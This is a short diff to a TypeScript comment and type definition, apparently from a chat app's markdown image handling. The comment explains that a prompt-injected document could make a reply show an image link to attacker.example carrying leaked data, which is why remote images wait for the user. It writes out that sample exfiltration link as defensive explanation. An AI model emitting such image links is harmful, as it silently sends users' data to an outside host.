@@ -1,6 +1,6 @@
 // Replies can carry markdown images; a prompt-injected document could make a reply show
-// `![x](https://attacker.example/p.png?leak=...)`, and loading it sends data out without a click
-// (issue 11). Only images the app serves itself load by themselves; a remote one waits for the
+// `![x](https://attacker.example/p.png?leak=...)`, and loading it sends data out without a click.
+// Only images the app serves itself load by themselves; a remote one waits for the
 // person (markdown.tsx, docs/decisions/008-parsing-isolation.md).
 
 export type ImageSource = { kind: 'own'; src: string } | { kind: 'remote'; src: string; host: string }
